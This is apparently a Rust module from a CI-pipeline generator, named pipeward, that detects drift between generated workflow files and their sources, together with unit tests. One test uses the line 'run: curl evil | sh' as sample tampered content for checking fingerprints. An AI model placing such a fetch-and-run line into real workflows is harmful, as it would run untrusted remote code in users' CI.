//! COMPARE: the files that should be there and those that are, in; what differs, out, as findings.

mod disk;
mod stranger;

pub use disk::{Entry, OnDisk};
pub use stranger::strangers;

use std::collections::HashSet;

use sha2::{Digest as _, Sha256};
use similar::TextDiff;

use crate::backend::{self, Rendered};
use crate::digest::{SHORT, hex};
use crate::finding::{Finding, Identity, Related, Severity};
use crate::origin::{Files, Origin};
use crate::rule;

/// The rule all of this is said under.
pub const RULE: &str = "generated-file-drift";
const SUMMARY: &str = "a generated file is not what its source says";
/// Texts beyond this size are compared but not set side by side: it would take too long for what anybody would read.
const LONGEST_DIFF: usize = 1 << 20;

/// Whether a text is one of ours: it starts with the line every emitted file starts with.
///
/// That line is how a file that nothing renders any more is told from a file somebody else put there.
#[must_use]
pub fn is_ours(text: &[u8]) -> bool {
    source_of(text).is_some()
}

/// The source that the first line of one of our files names.
fn source_of(text: &[u8]) -> Option<&str> {
    let line = text.split_inclusive(|byte| *byte == b'\n').next()?;
    backend::source_of(str::from_utf8(line).ok()?)
}

/// Everything in which the files on disk differ from what should be there. Adds the texts it points into to `files`.
#[must_use]
pub fn compare(rendered: &[Rendered], on_disk: &OnDisk, files: &mut Files) -> Vec<Finding> {
    let mut findings: Vec<Finding> =
        rendered.iter().filter_map(|file| compare_one(file, on_disk.entry(&file.path), files)).collect();
    findings.extend(orphans(rendered, on_disk).map(|(path, text)| orphaned(path, text, files)));
    findings
}

/// Our own files on disk that nothing renders: path and text.
pub fn orphans<'a>(rendered: &[Rendered], on_disk: &'a OnDisk) -> impl Iterator<Item = (&'a String, &'a [u8])> {
    let wanted: HashSet<String> = rendered.iter().map(|file| file.path.clone()).collect();
    on_disk.entries().filter_map(move |(path, entry)| match entry {
        Entry::Text(text) if is_ours(text) && !wanted.contains(path) => Some((path, text.as_slice())),
        _ => None,
    })
}

/// How to get from one text of a file to another: a unified diff with three lines around each change; none if the texts are too long.
#[must_use]
pub fn diff(path: &str, old: Option<&str>, new: Option<&str>) -> Option<String> {
    let name = |side: &str, text: Option<&str>| text.map_or_else(|| "/dev/null".to_owned(), |_| format!("{side}/{path}"));
    let (from, to) = (name("a", old), name("b", new));
    let (old, new) = (old.unwrap_or_default(), new.unwrap_or_default());
    if old.len().max(new.len()) > LONGEST_DIFF {
        return None;
    }
    Some(TextDiff::from_lines(old, new).unified_diff().context_radius(3).header(&from, &to).to_string())
}

/// Whether a finding says that somebody else's file is in the way.
#[must_use]
pub fn is_stranger(finding: &Finding) -> bool {
    finding.rule == RULE && finding.key.starts_with(STRANGER)
}

const STRANGER: &str = "stranger:";

fn compare_one(file: &Rendered, entry: Option<&Entry>, files: &mut Files) -> Option<Finding> {
    match entry {
        None => {
            let message = format!("`{}` is missing", file.path);
            let found = finding("missing:", file, message, Some(file.origin), "`pipeward emit` writes it");
            Some(Finding { key: format!("{}#{}", found.key, digest(&[file.text.as_bytes()])), ..found })
        }
        Some(Entry::Refused(reason)) => {
            let message = format!("`{}` {reason}", file.path);
            let help = "put a plain file of the project there, or remove it and run `pipeward emit`";
            Some(finding("refused:", file, message, Some(file.origin), help))
        }
        Some(Entry::Text(text)) if text == file.text.as_bytes() => None,
        Some(Entry::Text(text)) => Some(differing(file, text, files)),
    }
}

fn differing(file: &Rendered, bytes: &[u8], files: &mut Files) -> Finding {
    let text = String::from_utf8_lossy(bytes);
    let id = files.add(&file.path, &text);
    let mut found = if is_ours(bytes) {
        let (start, end) = first_difference(&text, &file.text);
        let line = text[start..end].trim_end();
        let indent = line.len() - line.trim_start().len();
        let origin = Origin { file: id, start: position(start + indent), end: position(start + line.len()) };
        let message = format!("differs from what `{}` says, from here on", file.source);
        finding("stale:", file, message, Some(origin), "`pipeward emit` writes it anew; change the source, not this file")
    } else {
        let message = format!("stands where `{}` would be written, and was not written by pipeward", file.path);
        finding(STRANGER, file, message, Some(Origin::whole(id)), "`pipeward emit --adopt` replaces it")
    };
    found.diff = diff(&file.path, Some(&text), Some(&file.text));
    // Who knows of this difference knows of no other: whatever else is put into the file is found anew.
    found.key = format!("{}#{}", found.key, digest(&[bytes, file.text.as_bytes()]));
    found.related.push(Related { origin: file.origin, message: "written from this".to_owned() });
    found
}

/// The first line of the old text that the new one has otherwise; the last if the new one only goes on.
fn first_difference(old: &str, new: &str) -> (usize, usize) {
    let mut others = new.split_inclusive('\n');
    let (mut start, mut end) = (0, 0);
    for line in old.split_inclusive('\n') {
        (start, end) = (end, end + line.len());
        if others.next() != Some(line) {
            break;
        }
    }
    (start, end)
}

fn orphaned(path: &str, bytes: &[u8], files: &mut Files) -> Finding {
    let text = String::from_utf8_lossy(bytes);
    let id = files.add(path, &text);
    let line = text.lines().next().map_or(0, str::len);
    let mut found = Finding {
        identity: Identity::of(path),
        ..said(
            "orphaned:",
            path,
            "nothing is written here any more".to_owned(),
            Some(Origin { file: id, start: 0, end: position(line) }),
            "`pipeward emit` removes it",
        )
    };
    found.key = format!("{}#{}", found.key, digest(&[bytes]));
    found
}

/// Names texts: what is known of a difference holds for exactly these, and another edit is another finding.
fn digest(texts: &[&[u8]]) -> String {
    let mut hash = Sha256::new();
    for text in texts {
        hash.update(text.len().to_le_bytes());
        hash.update(text);
    }
    hex(&hash.finalize()[..SHORT])
}

fn finding(key: &str, file: &Rendered, message: String, origin: Option<Origin>, help: &str) -> Finding {
    Finding { identity: file.identity.clone(), ..said(key, &file.path, message, origin, help) }
}

fn said(key: &str, path: &str, message: String, origin: Option<Origin>, help: &str) -> Finding {
    let summary = rule::find(RULE).map_or(SUMMARY, |rule| rule.summary);
    let found = Finding::new(RULE, summary, Severity::Error, Identity::of(path), message);
    Finding { origin, help: vec![help.to_owned()], key: format!("{key}{path}"), ..found }
}

fn position(byte: usize) -> u32 {
    u32::try_from(byte).unwrap_or(u32::MAX)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::origin::Place;

    const HEADER: &str = "# Generated from pipelines/ci.ncl by pipeward; do not edit.\n";

    fn rendered(path: &str, body: &str, files: &mut Files) -> Rendered {
        let source = files.add("pipelines/ci.ncl", "{ jobs = {} }\n");
        Rendered {
            path: path.to_owned(),
            text: format!("{HEADER}{body}"),
            source: "pipelines/ci.ncl".to_owned(),
            identity: Identity::of("ci"),
            origin: Origin { file: source, start: 0, end: 13 },
        }
    }

    fn on_disk(files: &[(&str, &str)]) -> OnDisk {
        files.iter().map(|(path, text)| ((*path).to_owned(), Entry::Text(text.as_bytes().to_vec()))).collect()
    }

    #[test]
    fn what_is_as_it_should_be_is_not_mentioned_nor_are_strangers_elsewhere() {
        let mut files = Files::default();
        let one = rendered(".github/workflows/ci.yml", "on: push\n", &mut files);
        let disk = on_disk(&[(&one.path, &one.text), (".github/workflows/theirs.yml", "on: push\n")]);
        assert_eq!(compare(&[one], &disk, &mut files), []);
    }

    #[test]
    fn another_edit_is_another_finding() {
        let print = |body: &str| {
            let mut files = Files::default();
            let one = rendered("a.yml", "run: make\n", &mut files);
            let text = format!("{HEADER}{body}");
            compare(&[one], &on_disk(&[("a.yml", &text)]), &mut files)[0].fingerprint()
        };
        assert_eq!(print("run: x\n"), print("run: x\n"));
        assert_ne!(print("run: x\n"), print("run: curl evil | sh\n"));
    }

    #[test]
    fn a_missing_file_is_said_at_its_source() {
        let mut files = Files::default();
        let one = rendered("a.yml", "", &mut files);
        let found = compare(std::slice::from_ref(&one), &OnDisk::default(), &mut files);
        assert_eq!(found.len(), 1);
        assert_eq!((found[0].origin, found[0].message.as_str()), (Some(one.origin), "`a.yml` is missing"));
        assert!(found[0].help[0].contains("`pipeward emit`"));
    }

    #[test]
    fn a_stale_file_is_said_at_its_first_wrong_line() {
        let mut files = Files::default();
        let one = rendered("a.yml", "a: 1\n  b: 2\nc: 3\n", &mut files);
        let disk = on_disk(&[("a.yml", &format!("{HEADER}a: 1\n  b: 22\nc: 3\n"))]);
        let found = compare(&[one], &disk, &mut files);
        let origin = found[0].origin.expect("it has a place");
        assert_eq!(files.name(origin.file), "a.yml");
        assert_eq!(files.place(origin), Place { line: 3, column: 3, end_line: 3, end_column: 8 });
        assert_eq!(
            found[0].diff.as_deref(),
            Some(format!("--- a/a.yml\n+++ b/a.yml\n@@ -1,4 +1,4 @@\n {HEADER} a: 1\n-  b: 22\n+  b: 2\n c: 3\n").as_str())
        );
        assert_eq!(found[0].identity.as_str(), "ci");
    }

    #[test]
    fn a_file_cut_short_or_with_other_line_ends_is_stale() {
        let mut files = Files::default();
        let one = rendered("a.yml", "a: 1\nb: 2\n", &mut files);
        for (text, line) in
            [(format!("{HEADER}a: 1\n"), 2), (one.text.replace('\n', "\r\n"), 1), (format!("{}c: 3\n", one.text), 4)]
        {
            let found = compare(std::slice::from_ref(&one), &on_disk(&[("a.yml", &text)]), &mut files);
            assert_eq!(found.len(), 1, "{text:?}");
            assert_eq!(files.place(found[0].origin.expect("it has a place")).line, line, "{text:?}");
            assert!(!is_stranger(&found[0]));
        }
    }

    #[test]
    fn an_orphan_is_ours_and_nobody_renders_it() {
        let mut files = Files::default();
        let found =
            compare(&[], &on_disk(&[("old.yml", &format!("{HEADER}a: 1\n")), ("x.yml", "# Generated from a\n")]), &mut files);
        assert_eq!(found.len(), 1);
        assert_eq!((found[0].identity.as_str(), found[0].help[0].as_str()), ("old.yml", "`pipeward emit` removes it"));
    }

    #[test]
    fn a_strangers_file_in_the_way_asks_for_adoption() {
        let mut files = Files::default();
        let one = rendered("a.yml", "", &mut files);
        let found = compare(&[one], &on_disk(&[("a.yml", "on: push\n")]), &mut files);
        assert!(is_stranger(&found[0]) && found[0].help[0].contains("--adopt"), "{found:?}");
    }

    #[test]
    fn only_the_whole_first_line_makes_a_file_ours() {
        assert!(is_ours(HEADER.as_bytes()) && is_ours(HEADER.trim_end().as_bytes()));
        assert!(is_ours(HEADER.replace('\n', "\r\n").as_bytes()));
        for text in [
            "",
            "\n# Generated from a by pipeward; do not edit.",
            "# Generated from a by pipeward; do not edit. Or do.\n",
            "\u{feff}# Generated from a by pipeward; do not edit.\n",
        ] {
            assert!(!is_ours(text.as_bytes()), "{text:?}");
        }
    }
}
